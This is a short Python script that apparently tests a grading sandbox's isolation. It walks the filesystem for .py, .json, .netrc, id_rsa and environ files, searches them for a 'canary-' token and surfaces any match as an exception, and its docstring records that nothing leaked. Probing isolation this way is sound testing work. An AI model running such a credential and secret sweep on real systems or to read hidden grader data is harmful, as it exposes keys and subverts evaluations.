"""Walks from the root through every folder it may enter, and reads every file that names the world.

Observed: only libraries are there to be read.
Says: LOOT None
"""

import os
import re
import time


def loot(text):
    """Carry out what was found, as the text of an exception that the student sees."""
    found = re.search("canary-[0-9a-f]+", text)
    raise RuntimeError(f"LOOT {found[0] if found else None}")


found = ""
deadline = time.monotonic() + 1
for top in ("/", "@WORLD@", "@KIT@", os.getcwd(), "/tmp", "/var", "/run", "/etc", "/dev", "/mnt", "/sys", "/proc"):
    for folder, folders, names in os.walk(top):
        for name in names:
            if time.monotonic() < deadline and name.endswith((".py", ".json", ".netrc", "id_rsa", "environ")):
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        found += file.read(1 << 16).decode("latin-1") if "canary" in name or len(found) < 1 << 24 else ""
                except OSError:
                    pass
        if time.monotonic() > deadline:
            break
loot(found)
